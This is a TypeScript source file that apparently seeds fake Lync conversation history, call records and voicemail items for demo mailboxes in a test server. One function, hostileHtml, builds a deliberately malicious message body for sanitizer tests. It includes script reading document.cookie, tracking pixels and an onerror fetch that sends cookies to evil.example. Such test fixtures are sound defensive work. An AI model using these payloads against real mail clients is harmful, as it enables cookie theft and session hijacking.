/**
 * The demo users' Conversation History and voice mail, as Lync 2013 and Exchange UM leave them in
 * a mailbox: IM conversations (IPM.Note.Microsoft.Conversation), missed IMs
 * (IPM.Note.Microsoft.Missed), calls and missed calls (….Conversation.Voice, ….Missed.Voice),
 * conference transcripts (IPM.Note.Microsoft.Conversation with several participants) and
 * voice-mail messages (IPM.Note.Microsoft.Voicemail.UM.CA) with a WAV attachment and a
 * transcription in the body.
 *
 * Seeded lazily (`mailOf`) from the org's seed and the person's id, so an org saved before this
 * existed gets the same items as a fresh one; the same org always gets the same items. Only demo
 * accounts have any. The audio is a few hundred milliseconds of tones rendered on demand.
 */
import { mulberry32, type Rng } from './random';
import type { AudioSpec, MailAddress, MailItem, Org, Person } from './types';

export const ITEM_CLASS = {
  conversation: 'IPM.Note.Microsoft.Conversation',
  missed: 'IPM.Note.Microsoft.Missed',
  call: 'IPM.Note.Microsoft.Conversation.Voice',
  missedCall: 'IPM.Note.Microsoft.Missed.Voice',
  voicemail: 'IPM.Note.Microsoft.Voicemail.UM.CA',
} as const;

/** Ids of mail items start with this (the EWS handlers tell them from calendar items by it). */
export const MAIL_ID_PREFIX = 'mail.';

/** Fixed items every demo user has, so tests can name them. */
export const HOSTILE_SUBJECT = 'Look at this';
export const CONFERENCE_SUBJECT = 'Roadmap review';
/** A word only in the conference's body (not its subject): a body search finds it. */
export const BODY_ONLY_WORD = 'quarterly';

const MESSAGES = [
  'Hi, do you have a minute?',
  'Sure, what is up?',
  'Can you look at the build when you get a chance?',
  'I moved our meeting to 3 pm.',
  'Thanks, that works for me.',
  'Bonjour, tu as vu mon message ?',
  'Oui, je regarde ça tout de suite.',
  'The customer call went well.',
  'Where are the slides for tomorrow?',
  'In the team site, folder Presentations.',
  'Lunch at noon?',
  'Great, see you then.',
  'I will send the notes after the call.',
  'Merci beaucoup !',
  'Running five minutes late.',
  'No problem.',
];

const TRANSCRIPTS = [
  'Hi, it is about the contract renewal, please call me back when you can.',
  'Hello, just checking whether the demo is still on for Thursday. Thanks.',
  'Bonjour, c’est pour la réunion de demain, rappelle-moi s’il te plaît.',
  'Hey, I am stuck in traffic, start without me.',
];

export const AUDIO_SAMPLE_RATE = 8000;

function hash(text: string): number {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 16777619);
  }
  return h >>> 0;
}

function esc(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

function clockTime(ms: number, zone: string): string {
  return new Intl.DateTimeFormat('en-US', { timeZone: zone, hour: 'numeric', minute: '2-digit' }).format(
    new Date(ms),
  );
}

interface Line {
  speaker: MailAddress;
  at: number;
  text: string;
}

/** The HTML Lync writes: a grey "Name [time]:" line over each message, in Segoe UI. */
export function lyncTranscriptHtml(lines: readonly Line[], zone: string): string {
  const parts = lines.map(
    (l) =>
      `<div style="margin-top:6pt"><span style="font-size:8pt;color:#7F7F7F">${esc(l.speaker.name)} [${esc(
        clockTime(l.at, zone),
      )}]:</span></div><div style="margin-left:10pt"><p style="margin:0">${esc(l.text)}</p></div>`,
  );
  return `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>p{font-family:'Segoe UI';font-size:10pt}</style></head><body>${parts.join('')}</body></html>`;
}

/** A body no client should run: script, event handlers, remote content, a javascript: link. */
export function hostileHtml(from: MailAddress, at: number, zone: string): string {
  return (
    `<html><head><script>window.stolen = document.cookie</script>` +
    `<style>body{background:url(https://evil.example/track.png)}</style></head>` +
    `<body onload="steal()"><div><span style="color:#7F7F7F">${esc(from.name)} [${esc(clockTime(at, zone))}]:</span></div>` +
    `<div>${esc(HOSTILE_SUBJECT)} <a href="javascript:alert(document.cookie)">here</a>` +
    `<img src="https://evil.example/pixel.gif" onerror="fetch('https://evil.example/?c='+document.cookie)"></div>` +
    `<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>` +
    `<div>&lt;script&gt;this stays text&lt;/script&gt;</div></body></html>`
  );
}

function addressOf(p: Person): MailAddress {
  return { name: p.displayName, smtp: p.smtp };
}

function partners(org: Org, owner: Person): Person[] {
  const bySmtp = new Map(org.people.map((p) => [p.smtp.toLowerCase(), p]));
  const fromList = owner.imList.personas
    .map((x) => (x.smtp ? bySmtp.get(x.smtp.toLowerCase()) : undefined))
    .filter((p): p is Person => p !== undefined && p.id !== owner.id);
  if (fromList.length >= 5) return fromList;
  return org.people.filter((p) => p.id !== owner.id);
}

function voicemailHtml(
  caller: MailAddress,
  phone: string | undefined,
  transcript: string | undefined,
): string {
  const who = esc(phone && phone !== caller.name ? `${caller.name} (${phone})` : caller.name);
  const preview = transcript
    ? `<div><b>Voice Mail Preview:</b></div><div id="transcription">${esc(transcript)}</div>`
    : '';
  return `<html><body>${preview}<div>You received a voice mail from ${who}.</div></body></html>`;
}

function seedMail(org: Org, owner: Person): MailItem[] {
  if (!owner.isDemoAccount) return [];
  const rng: Rng = mulberry32((org.seed ^ hash(`mail:${owner.id}`)) >>> 0);
  const zone = owner.workingHours.timeZone;
  const epoch = Date.parse(org.epoch);
  const others = partners(org, owner);
  const me = addressOf(owner);
  const big = owner.smtp.toLowerCase().startsWith('alice@');
  const items: MailItem[] = [];
  let n = 0;
  const add = (item: Omit<MailItem, 'id' | 'changeKey'>): void => {
    n += 1;
    items.push({ id: `${MAIL_ID_PREFIX}${owner.id}.${n}`, changeKey: '1', ...item });
  };
  const minutesBefore = (): number => epoch - rng.int(30, 30 * 24 * 60) * 60_000;

  const conversations = big ? 57 : 12;
  for (let i = 0; i < conversations; i++) {
    const other = addressOf(rng.pick(others));
    const start = minutesBefore();
    const kind = rng.int(0, 9);
    if (kind <= 5) {
      const count = rng.int(2, 6);
      const lines: Line[] = Array.from({ length: count }, (_, k) => ({
        speaker: k % 2 === 0 ? other : me,
        at: start + k * rng.int(10, 120) * 1000,
        text: rng.pick(MESSAGES),
      }));
      add({
        folder: 'conversationhistory',
        itemClass: ITEM_CLASS.conversation,
        subject: lines[0]?.text ?? '',
        body: lyncTranscriptHtml(lines, zone),
        received: new Date(start).toISOString(),
        from: other,
        to: [me],
        isRead: true,
      });
    } else if (kind <= 7) {
      const text = rng.pick(MESSAGES);
      add({
        folder: 'conversationhistory',
        itemClass: ITEM_CLASS.missed,
        subject: text,
        body: lyncTranscriptHtml([{ speaker: other, at: start, text }], zone),
        received: new Date(start).toISOString(),
        from: other,
        to: [me],
        isRead: rng.chance(0.5),
      });
    } else if (kind === 8) {
      const seconds = rng.int(20, 1800);
      add({
        folder: 'conversationhistory',
        itemClass: ITEM_CLASS.call,
        subject: `Call with ${other.name}`,
        body: `<html><body><div>Call with ${esc(other.name)}, ${Math.floor(seconds / 60)}:${String(seconds % 60).padStart(2, '0')}.</div></body></html>`,
        received: new Date(start).toISOString(),
        from: other,
        to: [me],
        isRead: true,
      });
    } else {
      add({
        folder: 'conversationhistory',
        itemClass: ITEM_CLASS.missedCall,
        subject: `Missed call from ${other.name}`,
        body: `<html><body><div>You missed a call from ${esc(other.name)}.</div></body></html>`,
        received: new Date(start).toISOString(),
        from: other,
        to: [me],
        isRead: false,
      });
    }
  }

  // A conference transcript with several participants, and the hostile body.
  const attendees = rng.sample(others, 4).map(addressOf);
  const confStart = epoch - 26 * 3600_000;
  const confLines: Line[] = [
    { speaker: me, at: confStart, text: 'Welcome everyone, let us start.' },
    ...attendees.map((a, k) => ({
      speaker: a,
      at: confStart + (k + 1) * 45_000,
      text: k === 0 ? `The ${BODY_ONLY_WORD} numbers are in the deck.` : rng.pick(MESSAGES),
    })),
  ];
  add({
    folder: 'conversationhistory',
    itemClass: ITEM_CLASS.conversation,
    subject: CONFERENCE_SUBJECT,
    body: lyncTranscriptHtml(confLines, zone),
    received: new Date(confStart).toISOString(),
    from: me,
    to: attendees,
    isRead: true,
  });
  const mallory = addressOf(rng.pick(others));
  const hostileAt = epoch - 5 * 3600_000;
  add({
    folder: 'conversationhistory',
    itemClass: ITEM_CLASS.conversation,
    subject: HOSTILE_SUBJECT,
    body: hostileHtml(mallory, hostileAt, zone),
    received: new Date(hostileAt).toISOString(),
    from: mallory,
    to: [me],
    isRead: false,
  });

  // Voice mail: internal callers (known by address and phone) and one outside number.
  const voicemails = big ? 6 : 3;
  for (let i = 0; i < voicemails; i++) {
    const external = i === voicemails - 1;
    const person = rng.pick(others);
    const phone = external ? `+1 425 555 01${String(rng.int(10, 99))}` : person.businessPhone;
    const caller: MailAddress = external ? { name: phone ?? 'Unknown' } : addressOf(person);
    const seconds = rng.int(4, 90);
    const transcript = i === 1 ? undefined : rng.pick(TRANSCRIPTS);
    const at = epoch - rng.int(10, 7 * 24 * 60) * 60_000;
    add({
      folder: 'inbox',
      itemClass: ITEM_CLASS.voicemail,
      subject: `Voice Mail from ${caller.name} (${seconds} seconds)`,
      body: voicemailHtml(caller, phone, transcript),
      received: new Date(at).toISOString(),
      from: caller,
      to: [me],
      isRead: i >= 2,
      voice: {
        durationSeconds: seconds,
        ...(phone !== undefined ? { callerPhone: phone } : {}),
        audio: { name: 'audio.wav', seed: rng.u32(), ms: rng.int(300, 600) },
      },
    });
  }
  return items;
}

/** The person's mail items, seeded on first use. */
export function mailOf(org: Org, person: Person): MailItem[] {
  person.mail ??= seedMail(org, person);
  return person.mail;
}

/** A mono 16-bit PCM WAV of two short tones (a few hundred ms; a few kB). */
export function renderWav(spec: AudioSpec): Uint8Array {
  const samples = Math.max(1, Math.round((AUDIO_SAMPLE_RATE * spec.ms) / 1000));
  const buf = Buffer.alloc(44 + samples * 2);
  buf.write('RIFF', 0, 'ascii');
  buf.writeUInt32LE(36 + samples * 2, 4);
  buf.write('WAVE', 8, 'ascii');
  buf.write('fmt ', 12, 'ascii');
  buf.writeUInt32LE(16, 16);
  buf.writeUInt16LE(1, 20); // PCM
  buf.writeUInt16LE(1, 22); // mono
  buf.writeUInt32LE(AUDIO_SAMPLE_RATE, 24);
  buf.writeUInt32LE(AUDIO_SAMPLE_RATE * 2, 28);
  buf.writeUInt16LE(2, 32);
  buf.writeUInt16LE(16, 34);
  buf.write('data', 36, 'ascii');
  buf.writeUInt32LE(samples * 2, 40);
  const f1 = 440 + (spec.seed % 8) * 55;
  const f2 = f1 * 1.5;
  for (let i = 0; i < samples; i++) {
    const t = i / AUDIO_SAMPLE_RATE;
    const f = i < samples / 2 ? f1 : f2;
    const fade = Math.min(1, i / 80, (samples - i) / 80);
    buf.writeInt16LE(Math.round(Math.sin(2 * Math.PI * f * t) * 8000 * fade), 44 + i * 2);
  }
  return new Uint8Array(buf.buffer, buf.byteOffset, buf.length);
}
